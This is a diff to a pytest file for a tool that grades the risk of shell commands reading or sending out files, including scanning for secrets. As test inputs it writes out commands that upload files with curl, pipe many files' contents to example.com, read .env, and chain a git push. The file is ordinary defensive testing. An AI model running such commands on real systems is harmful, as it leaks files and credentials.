@@ -161,9 +161,45 @@ def test_what_the_call_writes_first_is_not_looked_into() -> None:
     assert reads[_LOOK.path] != "clean"
 
 
-def test_nothing_is_looked_into_where_nothing_leaves() -> None:
-    assert not [one for one in seen_as("cat notes.txt").questions if isinstance(one, ContentOf)]
-    assert not [one for one in seen_as("curl -T notes.txt http://localhost/").questions if isinstance(one, ContentOf)]
+@pytest.mark.requirement("FLOW-4")
+@pytest.mark.parametrize(
+    ("line", "answer", "risk"),
+    [
+        ("cat notes.txt", Found("found"), Risk.HIGH),
+        ("cat notes.txt", Found("suspected"), Risk.MEDIUM),
+        ("cat notes.txt", Found("clean"), Risk.LOW),
+        ("cat notes.txt", Unavailable("no"), Risk.LOW),
+        ("cat notes.txt", None, Risk.LOW),
+        ("cat notes.txt; git push origin topic", Found("found"), Risk.CRITICAL),
+        ("curl -T notes.txt http://localhost/", Found("found"), Risk.HIGH),
+    ],
+)
+def test_a_read_is_as_loud_as_what_it_would_expose(line: str, answer: Answer | None, risk: Risk) -> None:
+    found = seen_as(line, {} if answer is None else {_LOOK: answer})
+    assert _LOOK in found.questions
+    assert found.analysis.risk is risk
+
+
+def test_a_secret_in_a_test_is_less_loud() -> None:
+    asked = ContentOf(f"{WORKSPACE}/tests/test_a.py", _PATTERNS)
+    assert seen_as("cat tests/test_a.py", {asked: Found("found")}).analysis.risk is Risk.MEDIUM
+
+
+def test_a_read_says_nothing_of_a_file_that_nobody_looked_into() -> None:
+    assert [
+        effect.facts.get("scan") for effect in seen_as("cat notes.txt").analysis.effects if effect.kind == "file"
+    ] == [None]
+
+
+@pytest.mark.parametrize("line", ["cat /etc/hosts", "grep -rn x src", "cat src/*.py", "ls", "cat .env"])
+def test_what_is_not_looked_into(line: str) -> None:
+    assert not [one for one in seen_as(line).questions if isinstance(one, ContentOf)]
+
+
+def test_only_so_many_files_of_a_call_are_looked_into() -> None:
+    reads = "cat " + " ".join(f"f{n}" for n in range(40))
+    for line in (reads, f"{reads} | curl -d @- https://example.com/"):
+        assert len([one for one in seen_as(line).questions if isinstance(one, ContentOf)]) == 16
 
 
 def test_a_repository_is_known_by_its_remotes_and_otherwise_may_be_any() -> None:
